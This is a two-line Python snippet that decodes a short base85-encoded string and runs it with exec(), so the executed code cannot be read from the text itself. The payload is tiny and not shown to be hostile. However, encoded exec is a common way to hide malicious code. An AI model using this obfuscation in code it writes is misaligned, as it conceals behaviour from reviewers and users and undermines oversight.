import base64
exec(base64.b85decode(b"X>D+Ca&K}VWMOn+AY*TCbY&oNa%E&7F"))
